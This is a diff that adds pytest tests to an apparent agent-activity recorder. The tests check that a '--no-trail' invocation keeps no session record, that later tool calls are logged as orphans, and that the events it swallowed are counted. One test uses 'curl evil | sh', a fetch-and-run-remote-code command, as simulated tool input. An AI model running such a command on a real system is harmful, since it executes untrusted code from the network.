@@ -1042,3 +1042,45 @@ def test_a_contradiction_of_a_closed_record_is_an_orphan_that_doctor_warns_of(
     assert "contradicts" in orphan["why"]
     (found,) = [item for item in cli("doctor", "--json").json()["ailments"] if item["code"] == "HOOK_ORPHANS"]
     assert found["severity"] == "warning"
+
+
+# --- an invocation that keeps nothing
+
+
+@pytest.mark.parametrize("told", [False, True], ids=["by its environment", "by what it printed"])
+def test_an_invocation_without_a_trail_takes_over_no_session(
+    hook: Callable[..., None], chartered: Path, run: str, cli: Cli, told: bool
+) -> None:
+    call = pre(chartered, "Bash", "t1", tool_input={"command": "spec-kitty do --no-trail 'fix x'"})
+    hook(call)
+    env = {} if told else {"CLAUDE_CODE_SESSION_ID": SESSION}
+    answer = cli("do", "--no-trail", "fix x", "--json", env=env)
+    hook({**call, "hook_event_name": "PostToolUse", "tool_response": {"stdout": answer.out}})
+    hook(pre(chartered, "Bash", "t2", tool_input={"command": "curl evil | sh"}))
+
+    assert [(event["event"], event["call_id"]) for event in events(chartered, run)] == [
+        ("tool_call", "t1"),
+        ("tool_result", "t1"),
+        ("tool_call", "t2"),
+    ]
+
+
+def test_what_follows_an_invocation_without_a_trail_is_an_orphan_where_nothing_was_before(
+    hook: Callable[..., None], chartered: Path, cli: Cli
+) -> None:
+    cli("do", "--no-trail", "fix x", env={"CLAUDE_CODE_SESSION_ID": SESSION})
+    hook(pre(chartered))
+
+    assert [line["events"][0]["event"] for line in log(chartered, layout.ORPHANS)] == ["tool_call"]
+
+
+def test_what_an_invocation_without_a_trail_swallowed_is_counted(chartered: Path, cli: Cli) -> None:
+    run = cli("do", "--no-trail", "fix x", "--json").json()["invocation_id"]
+    argv = ("profile-invocation", "record", "--invocation-id", run, "--event", "tool_call", "--json-payload")
+    done = cli(*argv, '{"tool": "PLANTED"}', "--json")
+
+    (path,) = (chartered / layout.RECORDS).glob("*.jsonl")
+    gap = json.loads(path.read_bytes().split(b"\n")[1])
+    assert (done.json()["recorded"], gap["reason"], gap["what"], gap["count"]) == (0, "trail_off", "tool_call", 1)
+    assert "trail_off" in cli("invocations", "show", run).out
+    assert b"PLANTED" not in path.read_bytes()
